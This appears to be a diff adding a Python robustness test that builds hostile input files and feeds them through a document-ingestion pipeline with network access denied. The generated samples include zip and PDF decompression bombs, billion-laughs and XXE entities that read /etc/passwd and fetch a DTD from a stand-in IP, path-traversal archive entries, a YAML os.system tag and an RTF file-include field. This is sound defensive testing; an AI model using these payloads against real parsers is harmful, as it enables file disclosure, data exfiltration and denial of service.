@@ -1,0 +1,384 @@
+"""Hostile files, made anew each time from a fixed seed, and a run over them with sockets denied.
+
+Run: python -m tests.intake.hostile. It prints the slowest files and the highest memory use as JSON.
+"""
+
+from __future__ import annotations
+
+import argparse
+import io
+import json
+import random
+import resource
+import socket
+import struct
+import sys
+import time
+import zipfile
+import zlib
+from collections.abc import Iterator
+from typing import Any, NoReturn
+
+from tests.intake.measure import ARTICLES
+from tests.intake.writers import WRITERS, layout, zipped
+
+_LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)) + "]>"
+_FILE_ENTITY = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY % out SYSTEM "http://203.0.113.9/x.dtd"> %out;]>'
+_TEXT = "The ferry sailed again on Monday, the harbour office said. Nobody was hurt, and the boat was full. "
+
+
+def files() -> Iterator[tuple[str, bytes]]:
+    """Name and bytes of each file."""
+    yield from _damaged()
+    yield from _zips()
+    yield from _pdfs()
+    yield from _html()
+    yield from _markdown()
+    yield from _texts()
+    yield from _rich_text()
+    yield from _mail()
+    yield from _tables()
+
+
+def _damaged() -> Iterator[tuple[str, bytes]]:
+    """Good files cut short or with bytes changed."""
+    chance = random.Random(7)
+    for form in ("docx", "odt", "epub", "pdf", "rtf", "eml", "json", "csv", "parquet"):
+        good = WRITERS[form](ARTICLES[0])
+        for part in (0.02, 0.3, 0.7, 0.97):
+            yield f"cut-{int(part * 100)}.{form}", good[: int(len(good) * part)]
+        for number in range(4):
+            data = bytearray(good)
+            for _ in range(12):
+                data[chance.randrange(len(data))] = chance.randrange(256)
+            yield f"changed-{number}.{form}", bytes(data)
+        yield f"noise.{form}", bytes(chance.randrange(256) for _ in range(3_000))
+        yield f"words.{form}", _TEXT.encode() * 5
+    page = layout("newspaper.html", ARTICLES[0])
+    for number in range(6):
+        data = bytearray(page)
+        for _ in range(40):
+            data[chance.randrange(len(data))] = chance.randrange(256)
+        yield f"changed-{number}.html", bytes(data)
+
+
+def _zip_with(form: str, main: bytes) -> bytes:
+    """A document of a zipped format whose main part holds these bytes."""
+    if form == "docx":
+        return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": main})
+    if form == "odt":
+        return zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": main})
+    return zipped(
+        {
+            "META-INF/container.xml": '<container><rootfile full-path="b.opf"/></container>',
+            "b.opf": '<package><manifest><item id="c" href="c.xhtml"/></manifest><spine><itemref idref="c"/></spine></package>',
+            "c.xhtml": main,
+        }
+    )
+
+
+def _zips() -> Iterator[tuple[str, bytes]]:
+    for form in ("docx", "odt", "epub"):
+        yield f"bomb-zeros.{form}", _zip_with(form, b"0" * 90_000_000)
+        yield f"bomb-text.{form}", _zip_with(form, b"<p>" + b"word " * 9_000_000 + b"</p>")
+        yield f"laughs.{form}", _zip_with(form, (_LAUGHS + "<x>&i;</x>").encode())
+        yield f"file-entity.{form}", _zip_with(form, (_FILE_ENTITY + "<x><p>&secret;</p></x>").encode())
+        yield f"file-entity-16.{form}", _zip_with(form, (_FILE_ENTITY + "<x><p>&secret;</p></x>").encode("utf-16"))
+        yield f"deep.{form}", _zip_with(form, b"<p>" * 20_000 + b"x" + b"</p>" * 20_000)
+        yield f"wide.{form}", _zip_with(form, b"<x>" + b"<p>a</p>" * 60_000 + b"</x>")
+        yield f"empty-xml.{form}", _zip_with(form, b"")
+        yield f"broken-xml.{form}", _zip_with(form, b"<p><b>words</p>")
+        yield f"attribute.{form}", _zip_with(form, b'<p a="' + b"x" * 2_000_000 + b'">words</p>')
+        yield f"control.{form}", _zip_with(form, b"<p>words\x00\x01\x02</p>")
+        yield f"many.{form}", zipped({f"part{number}.xml": "x" for number in range(2_500)})
+        yield f"upwards.{form}", zipped({"../../../tmp/evil.txt": "x", "/etc/evil": "x", "C:\\evil": "x"})
+        yield f"empty-zip.{form}", zipped({})
+        yield f"lying-size.{form}", _lying(_zip_with(form, b"0" * 2_000_000))
+        yield f"encrypted.{form}", _flagged(_zip_with(form, b"<p>words</p>"))
+    yield "looping.epub", zipped({
+        "META-INF/container.xml": '<container><rootfile full-path="b.opf"/></container>',
+        "b.opf": "<package><manifest><item id='c' href='b.opf'/></manifest><spine>" + "<itemref idref='c'/>" * 400 + "</spine></package>",
+    })  # fmt: skip
+    yield "outside.epub", zipped({
+        "META-INF/container.xml": '<container><rootfile full-path="../../etc/passwd"/></container>',
+    })  # fmt: skip
+    inner = io.BytesIO()
+    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("a", b"0" * 10_000_000)
+    yield "zip-in-zip.docx", zipped({f"word/{number}.zip": inner.getvalue() for number in range(50)} | {"word/document.xml": "<p>words</p>"})
+
+
+def _lying(data: bytes) -> bytes:
+    """The same archive, saying that each part is ten bytes long."""
+    out = bytearray(data)
+    at = out.find(b"PK\x01\x02")
+    while at >= 0:
+        out[at + 24 : at + 28] = struct.pack("<I", 10)
+        at = out.find(b"PK\x01\x02", at + 4)
+    return bytes(out)
+
+
+def _flagged(data: bytes) -> bytes:
+    """The same archive with every part marked as encrypted."""
+    out = bytearray(data)
+    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        at = out.find(mark)
+        while at >= 0:
+            out[at + place] |= 1
+            at = out.find(mark, at + 4)
+    return bytes(out)
+
+
+def _pdf_of(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
+    out, places = b"%PDF-1.5\n", []
+    for number, item in enumerate(objects, 1):
+        places.append(len(out))
+        out += b"%d 0 obj\n" % number + item + b"\nendobj\n"
+    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
+    return out + table + b"trailer << /Size %d %s >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, trailer, len(out))
+
+
+def _pdfs() -> Iterator[tuple[str, bytes]]:
+    catalogue = b"<< /Type /Catalog /Pages 2 0 R >>"
+    one = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
+
+    def stream(content: bytes, extra: bytes = b"") -> bytes:
+        return b"<< /Length %d %s >> stream\n" % (len(content), extra) + content + b"\nendstream"
+
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << >> >>"
+    bomb = zlib.compress(b"0" * 150_000_000, 9)
+    yield "stream-bomb.pdf", _pdf_of(catalogue, one, page, stream(bomb, b"/Filter /FlateDecode"))
+    yield "double-bomb.pdf", _pdf_of(catalogue, one, page, stream(zlib.compress(bomb, 9), b"/Filter [/FlateDecode /FlateDecode]"))
+    yield "hex-flood.pdf", _pdf_of(catalogue, one, page, stream(b"<" + b"41" * 2_000_000 + b"> Tj"))
+    yield "tj-flood.pdf", _pdf_of(catalogue, one, page, stream(b"BT /F1 9 Tf " + b"(a) Tj " * 150_000 + b"ET"))
+    yield "q-flood.pdf", _pdf_of(catalogue, one, page, stream(b"q " * 300_000))
+    yield "array-deep.pdf", _pdf_of(catalogue, one, page, stream(b"[" * 50_000))
+    yield "dict-deep.pdf", _pdf_of(b"<< /A " * 5_000 + b">>" * 5_000, one, page, stream(b""))
+    yield "kids-loop.pdf", _pdf_of(catalogue, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>")
+    yield "parent-loop.pdf", _pdf_of(catalogue, b"<< /Type /Pages /Parent 3 0 R /Kids [3 0 R] /Count 1 >>", b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>")
+    yield "count-lie.pdf", _pdf_of(catalogue, b"<< /Type /Pages /Kids [] /Count 999999999 >>")
+    yield "no-pages.pdf", _pdf_of(catalogue, b"<< /Type /Pages /Kids [] /Count 0 >>")
+    yield "contents-loop.pdf", _pdf_of(catalogue, one, b"<< /Type /Page /Parent 2 0 R /Contents [3 0 R 3 0 R] >>")
+    yield "length-lie.pdf", _pdf_of(catalogue, one, page, b"<< /Length 999999999 >> stream\nBT (x) Tj ET\nendstream")
+    yield "length-loop.pdf", _pdf_of(catalogue, one, page, b"<< /Length 4 0 R >> stream\nBT (x) Tj ET\nendstream")
+    yield "form-loop.pdf", _pdf_of(
+        catalogue, one, b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>", stream(b"/X Do"),
+        stream(b"/X Do /X Do", b"/Type /XObject /Subtype /Form /Resources << /XObject << /X 5 0 R >> >>"),
+    )  # fmt: skip
+    yield "prev-loop.pdf", _pdf_of(catalogue, one, page, stream(b""), trailer=b"/Root 1 0 R /Prev 9")
+    yield "encrypted.pdf", _pdf_of(catalogue, one, page, stream(b""), trailer=b"/Root 1 0 R /Encrypt << /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 /Length 128 >> /ID [(a)(b)]")
+    yield "no-root.pdf", _pdf_of(catalogue, trailer=b"")
+    yield "many-pages.pdf", _pdf_of(catalogue, b"<< /Type /Pages /Kids [" + b"3 0 R " * 5_000 + b"] /Count 5000 >>", page, stream(b""))
+    yield "link-out.pdf", _pdf_of(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://203.0.113.9/) >> >>", one, page, stream(b"BT /F1 9 Tf (words) Tj ET"))
+    yield "outside-file.pdf", _pdf_of(catalogue, one, page, b"<< /Length 0 /F (/etc/passwd) >> stream\n\nendstream")
+    yield "only-header.pdf", b"%PDF-1.7"
+    yield "header-flood.pdf", b"%PDF-1.7\n" * 100_000
+    yield "obj-flood.pdf", b"%PDF-1.7\n" + b"1 0 obj " * 100_000
+    yield "cmap-bomb.pdf", _pdf_of(
+        catalogue, one, b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>", stream(b"BT /F1 9 Tf (words) Tj ET"),
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>", stream(b"1 beginbfrange <00000000> <ffffffff> <0041> endbfrange"),
+    )  # fmt: skip
+
+
+def _html() -> Iterator[tuple[str, bytes]]:
+    def page(body: str, head: str = "") -> bytes:
+        return f"<!DOCTYPE html><html><head><title>A page of some kind</title>{head}</head><body>{body}</body></html>".encode()
+
+    words = f"<p>{_TEXT * 3}</p>"
+    yield "deep.html", page("<div>" * 30_000 + words)
+    yield "deep-300.html", page("<div>" * 300 + words + "</div>" * 300)
+    yield "deep-inline.html", page("<b><i>" * 5_000 + words)
+    yield "deep-tables.html", page("<table><tr><td>" * 2_000 + words)
+    yield "wide.html", page("<p>short words here</p>" * 60_000)
+    yield "wide-same.html", page(words * 3_000)
+    yield "wide-links.html", page('<a href="/x">to elsewhere</a> ' * 40_000)
+    yield "one-paragraph.html", page("<p>" + _TEXT * 18_000 + "</p>")
+    yield "too-large.html", page("<p>" + _TEXT * 25_000 + "</p>")
+    yield "breaks.html", page("words<br>" * 150_000)
+    yield "attribute.html", page(f'<p class="{"x" * 1_500_000}">{_TEXT}</p>')
+    yield "classes.html", page(f'<div class="{"ad-nav-share " * 50_000}">{words}</div>')
+    yield "unclosed.html", page("<p><a><b><span>" * 20_000)
+    yield "brackets.html", page("<" * 500_000)
+    yield "entities.html", page("&amp;" * 200_000 + "&#x110000;&#99999999;&nosuch;" * 1_000)
+    yield "laughs.html", (_LAUGHS + f"<html><body><p>&i;</p>{words}</body></html>").encode()
+    yield "file-entity.html", (_FILE_ENTITY + f"<html><body><p>&secret;</p>{words}</body></html>").encode()
+    yield "links-out.html", page('<iframe src="file:///etc/passwd"></iframe><img src="http://203.0.113.9/x"><object data="http://203.0.113.9/"></object>' + words, '<base href="http://203.0.113.9/"><link rel="stylesheet" href="http://203.0.113.9/x.css"><meta http-equiv="refresh" content="0;url=http://203.0.113.9/">')
+    yield "include.html", page('<xi:include href="file:///etc/passwd" parse="text"/>' + words)
+    yield "script.html", page(words, "<script>" + "x(" * 300_000 + "</script>")
+    yield "ld-deep.html", page(words, '<script type="application/ld+json">' + "[" * 100_000 + "</script>")
+    yield "ld-wide.html", page(words, '<script type="application/ld+json">' + json.dumps([{"@type": "NewsArticle", "author": [{"name": "x" * 900}] * 200}] * 5) + "</script>")
+    yield "ld-types.html", page(words, '<script type="application/ld+json">{"@type": ["NewsArticle", 3, null], "headline": 5, "author": {"name": [[]]}, "datePublished": {}, "articleSection": [null]}</script>')
+    yield "nul.html", page("<p>wor\x00ds " + _TEXT * 4 + "</p>")
+    yield "charset-unknown.html", page(words, '<meta charset="no-such-charset">')
+    yield "charset-utf7.html", page("<p>+ADw-script+AD4-</p>" + words, '<meta charset="utf-7">')
+    yield "charset-zip.html", page(words, '<meta charset="zip">')
+    yield "utf16.html", page(words).decode().encode("utf-16")
+    yield "comment.html", page("<!--" + words * 50)
+    yield "plaintext.html", page("<plaintext>" + words * 20)
+    yield "frames.html", b"<html><frameset><frame src='http://203.0.113.9/'></frameset></html>"
+    yield "nothing.html", page("")
+    yield "only-script.html", b"<script>1</script>"
+    yield "svg.html", page("<svg>" + "<g>" * 1_000 + "<script>1</script></svg>" + words)
+    yield "markup-in-words.html", page("<p>&lt;script&gt;alert(1)&lt;/script&gt; " + _TEXT * 3 + "</p>")
+    yield "form-feed.html", page("\x0c".join([words] * 50))
+
+
+def _markdown() -> Iterator[tuple[str, bytes]]:
+    for name, unit in {
+        "stars": "*", "underlines": "_", "tildes": "~", "open-brackets": "[", "close-brackets": "]", "images": "![", "links": "[a](",
+        "ticks": "`", "quotes": "> ", "hashes": "#", "comments": "<!--", "tags": "<a ", "ampersands": "&a", "escapes": "\\", "bullets": "- ", "star-words": "*a ",
+        "pairs": "**a** ", "nested-links": "[[a](b)](c) ", "references": "[a]: b\n", "rules": "---\n", "fences": "```\n", "numbers": "1. ", "pipes": "|",
+    }.items():  # fmt: skip
+        yield f"{name}.md", ("# A heading\n\n" + unit * (300_000 // len(unit)) + "\n\n" + _TEXT).encode()
+    yield "front-matter-open.md", ("---\n" + "a: b\n" * 50_000).encode()
+    yield "front-matter-deep.md", ("---\ntitle: " + "[" * 5_000 + "]" * 5_000 + "\n---\n" + _TEXT).encode()
+    yield "front-matter-alias.md", ("---\na: &a [x]\nb: *a\ntitle: !!python/object/apply:os.system ['true']\n---\n" + _TEXT).encode()
+    yield "line.md", (_TEXT * 20_000).encode()
+
+
+def _texts() -> Iterator[tuple[str, bytes]]:
+    for name, unit in {
+        "a": "a", "spaces-words": "a ", "open": "(", "quotes": "“", "straight-quotes": '"', "apostrophes": "'", "full-stops": ". ", "initials": "A. ", "capitals": "Aa Bb ",
+        "dashes": "— ", "breaks": "\r", "breaks-words": "a\n", "comments": "Comments\n", "short-lines": "Foo bar.\n", "captions": "Harbour emblem.\n\n", "bullets": "• x\n",
+        "labels": "Opinion: ", "by": "By ", "bylines": "By Ana Petrov\n", "said": "said Ana Petrov, ", "unclosed": "“We said ", "nested": "“‘", "numbers": "1. ",
+        "notes": "Ana Petrov is a writer.\n\n", "related": "Related\nlink\n", "dates": "May 4, 2031\n", "marks": "a\u0301\u0300", "soft": "so\u00adft ", "zero": "\u200b", "rtl": "\u202eabc ",
+        "emoji": "👩‍👩‍👧‍👦 ", "url": "https://a.example/?", "at": "a@", "hyphens": "a-", "stops": "a.b.", "commas": "a, ", "according": "according to ", "sources": "a source said ",
+    }.items():  # fmt: skip
+        yield f"{name}.txt", (unit * (300_000 // len(unit))).encode()
+    yield "surrogates.txt", b"\xed\xa0\x80\xed\xb0\x80 words"
+    yield "overlong.txt", b"\xc0\xaf\xe0\x80\xaf words"
+    yield "too-large.txt", b"word " * 1_100_000
+    yield "utf16-odd.txt", b"\xff\xfea\x00b"
+    yield "utf32.txt", "words and words".encode("utf-32")
+    yield "nul.txt", b"words\x00words" * 100
+    yield "escape.txt", b"\x1b[2J\x1b]0;owned\x07 The ferry sailed again on Monday.\n" * 20
+    yield "plain-html.txt", layout("blog.html", ARTICLES[0])
+
+
+def _rich_text() -> Iterator[tuple[str, bytes]]:
+    for name, code in {
+        "deep": "{" * 50_000, "unicode": "\\u9999?" * 30_000, "bin": "\\bin999999999 x", "hex": "\\'e9" * 50_000, "picture": "{\\pict " + "ab" * 2_000_000 + "}",
+        "control": "\\" + "a" * 300_000, "numbers": "\\fs99999999999999999999 words", "negative": "\\u-99999? words", "stars": "{\\*\\x" * 300 + "}" * 300, "link": '{\\field{\\*\\fldinst INCLUDETEXT "/etc/passwd"}{\\fldrslt words}}',
+    }.items():  # fmt: skip
+        yield f"{name}.rtf", ("{\\rtf1\\ansi " + code + " words}").encode()
+
+
+def _mail() -> Iterator[tuple[str, bytes]]:
+    head = b"Subject: A subject\r\nFrom: Ana Petrov <a@b.example>\r\n"
+    nested = b""
+    for number in range(400):
+        nested += b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (number, number)
+    yield "nested.eml", head + nested + b"\r\nwords"
+    yield "messages.eml", (head + b"Content-Type: message/rfc822\r\n\r\n") * 400 + b"\r\nwords"
+    yield "headers.eml", b"X-A: b\r\n" * 100_000 + b"\r\nwords"
+    yield "long-header.eml", b"Subject: " + b"a" * 2_000_000 + b"\r\n\r\nwords"
+    yield "encoded.eml", b"Subject: " + b"=?utf-8?q?=41?= " * 5_000 + b"\r\n\r\nwords"
+    yield "charset.eml", head + b"Content-Type: text/plain; charset=no-such\r\n\r\nw\xf6rds and words"
+    yield "charset-zip.eml", head + b"Content-Type: text/plain; charset=zip\r\n\r\nwords and words"
+    yield "base64.eml", head + b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b"!!!not base64" * 1_000
+    yield "bad-date.eml", head + b"Date: Thu, 99 Foo 99999 99:99:99 +99999\r\n\r\nwords and words"
+    yield "only-attachment.eml", head + b"Content-Disposition: attachment\r\nContent-Type: text/plain\r\n\r\nwords"
+    yield "html.eml", head + b"Content-Type: text/html\r\n\r\n" + layout("plain.html", ARTICLES[0])
+    yield "boundary.eml", head + b'Content-Type: multipart/mixed; boundary="' + b"b" * 100_000 + b'"\r\n\r\nwords'
+    yield "addresses.eml", b"From: " + b"(" * 20_000 + b"\r\nSubject: x\r\n\r\nwords"
+
+
+def _tables() -> Iterator[tuple[str, bytes]]:
+    yield "deep.json", b"[" * 200_000
+    yield "deep-object.json", b'{"a":' * 100_000
+    yield "number.json", b'[{"text": ' + b"9" * 100_000 + b"}]"
+    yield "nan.json", b'[{"text": NaN}, {"text": Infinity}]'
+    yield "types.json", b'[1, null, "x", [], {"text": {"name": {"name": 3}}}, {"text": true}, {"text": ["a", ["b"]]}]'
+    yield "surrogate.json", b'[{"text": "\\ud800 words"}]'
+    yield "many.json", json.dumps([{"text": _TEXT}] * 300).encode()
+    yield "empty-list.json", b"[]"
+    yield "scalar.json", b"5"
+    yield "broken.jsonl", b'{"text": "words"}\n{"text": \nnull\n[1]\n{}\n\xff\xfe\n{"text": "words"}\n'
+    yield "deep.jsonl", b'{"text":' * 50_000 + b"\n"
+    yield "long-line.jsonl", b'{"text": "' + b"a" * 21_000_000 + b'"}\n{"text": "words"}\n'
+    yield "quote.csv", b'text\n"' + b"a,b\n" * 500_000
+    yield "columns.csv", b"a," * 100_000 + b"text\n" + b"1," * 100_000 + b"words\n"
+    yield "nul.csv", b"text\nwor\x00ds\n"
+    yield "no-text.csv", b"a,b\n1,2\n"
+    yield "short-rows.csv", b"text,title\nwords\nwords,a,b,c,d\n\n"
+    yield "latin.csv", "text\nDie Fähre fährt für die Gäste\n".encode("cp1252")
+    yield "no-rows.csv", b"text\n"
+    yield "utf16.csv", "text\nwords and words\n".encode("utf-16")
+
+
+class Denied(socket.socket):
+    """Stands for every socket."""
+
+    def __init__(self, *_args: object, **_kwargs: object) -> None:
+        raise AssertionError("a connection was attempted")
+
+
+def deny(*_args: object, **_kwargs: object) -> NoReturn:
+    """Stands for every way to connect or to ask for an address."""
+    raise AssertionError("a connection was attempted")
+
+
+def _megabytes() -> int:
+    """The highest memory use of this process so far."""
+    scale = 1 if sys.platform == "darwin" else 1024
+    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * scale // 1_000_000
+
+
+def run(*, whole: bool = True, only: str = "") -> dict[str, Any]:
+    """Read every file and send what it holds through the pipeline (or only through the blocks); what came of it."""
+    from caveat.annotate.blocks import classify
+    from caveat.annotate.metadata import complete
+    from caveat.errors import ArticleError
+    from caveat.load.articles import read_many
+    from caveat.load.rubric import load_rubric
+    from caveat.pipeline import Pipeline
+
+    socket.socket = Denied  # type: ignore[misc]
+    socket.create_connection = deny
+    socket.getaddrinfo = deny
+    pipeline = Pipeline(load_rubric())
+    times: list[tuple[float, float, str]] = []
+    faults: list[str] = []
+    outcomes = {"read": 0, "refused": 0}
+    leaked: list[str] = []
+    memory: list[tuple[int, str]] = []
+    for name, data in files():
+        if only and only not in name:
+            continue
+        reading = working = 0.0
+        before = _megabytes()
+        start = time.process_time()
+        try:
+            for found in read_many(name, data=data):
+                reading += time.process_time() - start
+                start = time.process_time()
+                if isinstance(found, ArticleError):
+                    outcomes["refused"] += 1
+                    continue
+                outcomes["read"] += 1
+                if "root:" in found.text:
+                    leaked.append(name)
+                if whole:
+                    pipeline.run(found)
+                else:
+                    complete(found, classify(found))
+                working += time.process_time() - start
+                start = time.process_time()
+        except Exception as error:
+            faults.append(f"{name}: {type(error).__name__}: {error}"[:300])
+        reading += time.process_time() - start
+        times.append((round(reading, 2), round(working, 2), name))
+        if (grown := _megabytes() - before) >= 30:
+            memory.append((grown, name))
+    return {
+        "files": len(times), "outcomes": outcomes, "faults": faults, "leaked": leaked, "memory_grew_at": memory, "peak_megabytes": _megabytes(),
+        "slowest_to_read": sorted(times, reverse=True)[:8], "slowest_to_work_on": sorted(times, key=lambda item: -item[1])[:12],
+    }  # fmt: skip
+
+
+if __name__ == "__main__":
+    arguments = argparse.ArgumentParser(description=__doc__)
+    arguments.add_argument("--blocks-only", action="store_true", help="leave out everything behind the blocks")
+    arguments.add_argument("--only", default="", help="part of the names of the files to try")
+    chosen = arguments.parse_args()
+    print(json.dumps(run(whole=not chosen.blocks_only, only=chosen.only), indent=1))
